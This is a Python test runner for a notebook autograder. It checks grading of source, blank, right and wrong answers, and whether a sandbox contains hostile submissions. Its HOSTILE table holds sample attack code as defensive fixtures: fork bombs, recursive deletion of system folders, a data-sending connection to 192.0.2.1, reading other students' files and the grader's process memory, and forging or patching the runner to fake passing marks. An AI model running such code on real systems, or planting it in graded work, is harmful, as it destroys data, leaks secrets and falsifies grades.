"""Are the assignments graded rightly? Sources earn full marks, blank copies nothing, wrong answers are rejected, right ones accepted, hostile submissions contained.

    python tests/assignments/run.py            all assignments
    python tests/assignments/run.py 01_frechet one of them; --hostile: only the hostile submissions

A bank of answers lies in answers_<assignment>.py beside this file. The last line gives the counts.
"""
import csv
import importlib
import json
import os
import sys
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path[:0] = [str(HERE), str(ROOT)]
os.environ.setdefault("OMP_NUM_THREADS", "1")

from common import cheats  # noqa: E402
from msan_nb.course.grade import Book, _entered, grade, message_of, run_books  # noqa: E402
from msan_nb.course.sandbox import sandbox_problem  # noqa: E402
from msan_nb.course.tasks import build, find_assignments, marking, student_copy, text_of  # noqa: E402

SOURCES = ROOT / "nbs" / "assignments"
failures, counts = [], {}


def expect(kind, right, what):
    "Count one check; keep what failed."
    passed, total = counts.get(kind, (0, 0))
    counts[kind] = passed + bool(right), total + 1
    if not right: failures.append(f"{kind}: {what}")


def cells_of(nb, answers=None):
    "The code cells of a notebook as the runner takes them, with other answers in place."
    kinds = lambda m: "answer" if m["solution"] else "tests" if m["grade"] else "given"
    code = [(marking(c), text_of(c)) for c in nb["cells"] if c["cell_type"] == "code"]
    return [{"id": m["id"], "kind": kinds(m), "source": (answers or {}).get(m["id"], text)} for m, text in code]


def tests_of(book):
    "id of the tests -> what they said; empty when passed."
    return {c["id"]: message_of(book, n) for n, c in enumerate(book.cells) if c["kind"] == "tests"}


def check_source(a, folder):
    "The source earns everything, its blank copy nothing, and says so; both as submissions, from the archive's files."
    build(SOURCES, folder / "built")
    for student, kind in (("source", "source"), ("blank", "release")):
        target = folder / "submissions" / student / a.path.name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text((folder / "built" / kind / a.name / a.path.name).read_text())
    marks = {m["student"]: m for m in grade(folder / "submissions", folder / "out", SOURCES, say=lambda line: None)}
    expect("sources at full marks", marks["source"]["tests"] == marks["source"]["tests_max"], f"{a.name}: {marks['source']}")
    rows = [r for r in csv.DictReader((folder / "out" / "tasks.csv").open()) if r["student"] == "blank"]
    told = all("not answered" in r["message"] for r in rows)
    expect("blank copies at zero, told why", marks["blank"]["total"] == 0 and told, f"{a.name}: {marks['blank']}, {[r['message'] for r in rows]}")


def tests_after(nb):
    "id of each answer -> ids of the tests that follow it, up to the next answer."
    found, last = {}, None
    for m in [marking(c) for c in nb["cells"] if c["cell_type"] == "code"]:
        if m["solution"]: last = m["id"]; found[last] = []
        elif m["grade"]: found[last].append(m["id"])
    return found


def check_bank(a):
    "Wrong answers fail all tests of their task, and are told something; right ones pass all; partly right ones, which chance may help, pass those that they name in two of three draws. All in one sandbox, a process each."
    bank, tests = importlib.import_module(f"answers_{a.name}"), tests_after(a.notebook)
    expect("banks complete", set(tests) == set(bank.RIGHT) == set(bank.WRONG), f"{a.name}: {set(tests)} against {set(bank.RIGHT)}, {set(bank.WRONG)}")
    for task in tests: expect("banks complete", len(bank.RIGHT[task]) >= 3 and len(bank.WRONG[task]) >= 8, f"{a.name}, {task}: too few answers")
    tried = [(task, name, code, tests[task]) for task, some in bank.RIGHT.items() for name, code in some.items()]
    tried += [(task, name, code, []) for task, some in bank.WRONG.items() for name, code in some.items()]
    tried += [(task, name, code, earned) for task, some in getattr(bank, "PARTLY", {}).items() for name, (code, earned) in some.items() for _ in range(3)]
    copy = student_copy(a)  # all other tasks stay blank: each task must be tested by itself
    books = [Book([c for c in cells_of(copy, {task: code}) if c["kind"] != "tests"] + [c for c in cells_of(a.notebook) if c["id"] in tests[task]]) for task, _, code, _ in tried]
    run_books(a, books, seconds=3600)
    partly = {}
    for (task, name, _, earned), book in zip(tried, books):
        for test, said in tests_of(book).items():
            right = test in earned
            print(f"  {'right' if right else 'wrong'} {test}: {name}{': ' + said.splitlines()[0][:150] if said else ''}")
            if name in getattr(bank, "PARTLY", {}).get(task, ()): partly.setdefault((test, name, right), []).append(bool(said) != right)
            elif right: expect("right answers accepted", not said, f"{a.name}, {test}: {name}: {said}")
            else: expect("wrong answers rejected", said and not said.startswith("a test failed"), f"{a.name}, {test}: {name}: {said or 'accepted'}")
    for (test, name, right), well in partly.items(): expect("partly right answers", sum(well) >= 2, f"{a.name}, {test}: {name} should {'pass' if right else 'fail'}, and did so {sum(well)} times of {len(well)}")


# What a submission may do to others, and the tasks of the first assignment that it should still earn. The answer to `moments` carries the attack.
RIGHT_MOMENTS = "\n    return x.mean(0), np.cov(x, rowvar=False)"
ALL = "all" # tests that were bent earn nothing, whatever the answer to the other tasks is
HOSTILE = {
    "loops for ever": ("def moments(x):\n    while True: pass", 3),
    "loops for ever and refuses to be interrupted": ("def moments(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass", 3),
    "loops while it is defined": ("while True: pass", 3),
    "takes all memory": ("def moments(x):\n    kept = []\n    while True: kept.append(bytearray(10**8))", 3),
    "takes all memory with many processes": ("import os\ndef moments(x):\n    for _ in range(5): os.fork()\n    kept = b'x'*(80 << 20)\n    import time; time.sleep(60)", 3),
    "forks without end": ("import os\ndef moments(x):\n    while True:\n        try: os.fork()\n        except OSError: pass", 3),
    "deletes what it can": ("import os, shutil, pathlib\ndef moments(x):\n    for place in ('/task', '/submission', '/tmp', '/work', '/root', '/home', '/usr'): shutil.rmtree(place, ignore_errors=True)\n    pathlib.Path('VICTIM').unlink()", 3),
    "fills the disk": ("def moments(x):\n    for i in range(1000): open(f'/task/{i}', 'wb').write(bytes(10**7))", 3),
    "prints a gigabyte": ("def moments(x):\n    for i in range(1000): print('x'*10**6)\n    raise ValueError('y'*10**8)", 3),
    "prints a gigabyte past Python": ("import os, subprocess, sys\ndef moments(x):\n    for i in range(100): os.write(1, b'x'*10**6)\n    subprocess.run([sys.executable, '-c', 'print(1)\\nwhile True: print(10**900)'], timeout=1)", 3),
    "floods the grader's pipe": ("import os\ndef moments(x):\n    pipe = os.open(f'/proc/{os.getppid()}/fd/1', os.O_WRONLY)\n    while True: os.write(pipe, b'x'*10**6)", 3),
    "kills all processes": ("import os, signal\ndef moments(x): os.kill(-1, signal.SIGKILL)", 3),
    "calls home": ("import socket\ndef moments(x):\n    socket.create_connection(('192.0.2.1', 80), 5).sendall(repr(x).encode())", 3),
    "reads other students' work": ("def moments(x):\n    return open('VICTIM').read()", 3),
    "leaves by the back door": ("import os\ndef moments(x): os._exit(0)", 3),
    "crashes the interpreter": ("import ctypes\ndef moments(x): ctypes.string_at(0)", 3),
    "writes its own marks": ("""import json, os
def moments(x): return 0
events = [json.dumps({"notebook": 0, "cell": n, "ok": True, "error": "", "message": "", "where": "", "output": "", "key": k}) for n in range(9) for k in ("", None)]
text = "\\n".join([*events, ""]).encode()
for place in [*range(3, 40), f"/proc/{os.getppid()}/fd/1", "/proc/self/fd/1"]:
    try: os.write(place if isinstance(place, int) else os.open(place, os.O_WRONLY), text)
    except OSError: pass""", 3),
    "reads the grader's memory": ("import os\nprint(open(f'/proc/{os.getppid()}/environ').read(), open(f'/proc/{os.getppid()}/mem', 'rb'))\ndef moments(x): return 0", 3),
    "takes memory that no process shows": ("import os\ndef moments(x):\n    kept = []\n    while True:\n        kept.append(os.memfd_create('x'))\n        for _ in range(100): os.write(kept[-1], bytes(1 << 20))", 3),
    "keeps all cores busy": ("import os\ndef moments(x):\n    for core in range(20):\n        if os.fork() == 0:\n            try: os.sched_setaffinity(0, range(os.cpu_count()))\n            finally:\n                while True: pass\n    while True: pass", 3),
    "replaces the runner by way of the stream": ("import sys\ntype(sys.stdout).write.__globals__['run_cell'] = lambda *given: dict(ok=True, error='', message='', where='', output='')\ndef moments(x): return 0", 3),
    "reads the tests by way of the stream": ("import sys\nroom = type(sys.stdout).write.__globals__\nold, seen = room['run_cell'], []\nroom['run_cell'] = lambda *given: (seen.append(given), print(seen), old(*given))[2]\ndef moments(x): return 0", 3),
    "gets past the fence and replaces the runner": (cheats("moments", "", "", "0")["gets past the fence and replaces the runner"], ALL),
    "half a character in its error": ("def moments(x): raise ValueError('\\ud800')", 3),
    "half a character in its source": ("# \ud800\ndef moments(x): return 0", 3),
    "turns the tests away": ("import sys\nsys.modules['numpy'] = None\nimport builtins\nbuiltins.__import__ = None\ndef moments(x): return 0", 3),
}
BROKEN = {"no JSON": "hello", "too deep": "[" * 10**6, "no notebook": '{"cells": 3}', "cells of rubbish": '{"cells": [1, {"metadata": 2}]}', "empty": ""}


def check_hostile(folder):
    "Every hostile submission loses what it should, an honest one beside it nothing, and the files of others stay."
    a = find_assignments(SOURCES)[0]
    victim = folder / "submissions" / "honest" / a.path.name
    for student, code in [("honest", None), *[(n, c) for n, (c, _) in HOSTILE.items()]]:
        nb = json.loads(a.path.read_text())
        for c in nb["cells"]:
            if code and marking(c)["id"] == "moments": c["source"] = code.replace("VICTIM", str(victim))
        path = folder / "submissions" / student / a.path.name
        path.parent.mkdir(parents=True)
        path.write_text(json.dumps(nb))
    for name, text in BROKEN.items():
        path = folder / "submissions" / name / a.path.name
        path.parent.mkdir()
        path.write_text(text)
    twice = folder / "submissions" / "hands in twice" / a.name / a.path.name
    twice.parent.mkdir(parents=True)
    for path in (twice, twice.parents[1] / a.path.name): path.write_text(a.path.read_text())
    long = json.loads(a.path.read_text())
    for c in long["cells"]: c["source"] = "y" * 200_000 if marking(c)["id"] == "why-symmetric" else c["source"]
    (folder / "submissions" / "writes a lot").mkdir()
    (folder / "submissions" / "writes a lot" / a.path.name).write_text(json.dumps(long))
    before = {p: p.read_bytes() for p in (folder / "submissions").rglob("*.ipynb")}
    marks = {m["student"]: m for m in grade(folder / "submissions", folder / "out", SOURCES, jobs=2, say=lambda line: print("  " + line))}
    full = marks["honest"]["tests_max"]
    expect("hostile submissions contained", marks["honest"]["tests"] == full, f"the honest student has {marks['honest']}")
    for name, (_, lost) in HOSTILE.items(): expect("hostile submissions contained", marks[name]["tests"] == (0 if lost == ALL else full - lost), f"{name}: {marks[name]}")
    bent = [name for name in HOSTILE if marks[name]["status"] == "the tests were bent"]
    expect("hostile submissions contained", bent == ["gets past the fence and replaces the runner"], f"bent are said to be the tests of {bent}")
    pages = "".join(p.read_text() for p in (folder / "out" / "feedback").rglob("*.html"))
    expect("hostile submissions contained", "your covariance has a wrong entry: look" not in pages.replace("&#x27;", "'"), "hidden tests stand in the feedback")
    for name in BROKEN: expect("hostile submissions contained", marks[name]["tests"] == 0 and marks[name]["status"].startswith("unreadable"), f"{name}: {marks[name]}")
    expect("hostile submissions contained", marks["hands in twice"]["tests"] == 0 and marks["hands in twice"]["status"].startswith("handed in twice"), f"hands in twice: {marks['hands in twice']}")
    expect("hostile submissions contained", marks["writes a lot"]["tests"] == full and _entered(folder / "out" / "written.csv")["writes a lot", a.name, "why-symmetric"]["answer"] == "y" * 200_000, "writes a lot: written.csv cannot be read back")
    expect("hostile submissions contained", all(p.read_bytes() == text for p, text in before.items()), "submissions were changed")
    expect("hostile submissions contained", len(list((folder / "out" / "feedback").rglob("*.html"))) == len(marks), "feedback is missing")


def main(words):
    if problem := sandbox_problem(): sys.exit(f"No sandbox, so nothing can be tested: {problem}\n0 passed, 1 failed")
    began, chosen = time.time(), [w for w in words if not w.startswith("-")]
    for a in find_assignments(SOURCES) if "--hostile" not in words else []:
        if chosen and a.name not in chosen: continue
        print(f"── {a.name}: {a.title}", flush=True)
        with tempfile.TemporaryDirectory() as folder: check_source(a, Path(folder))
        check_bank(a)
    if not chosen:
        print("── hostile submissions", flush=True)
        with tempfile.TemporaryDirectory() as folder: check_hostile(Path(folder))
    print(*failures, sep="\n")
    print("; ".join(f"{passed} of {total} {kind}" for kind, (passed, total) in counts.items()) + f"; {time.time() - began:.0f} s")
    passed, total = map(sum, zip(*counts.values()))
    print(f"{passed} passed, {total - passed} failed")
    sys.exit(passed != total)


if __name__ == "__main__": main(sys.argv[1:])
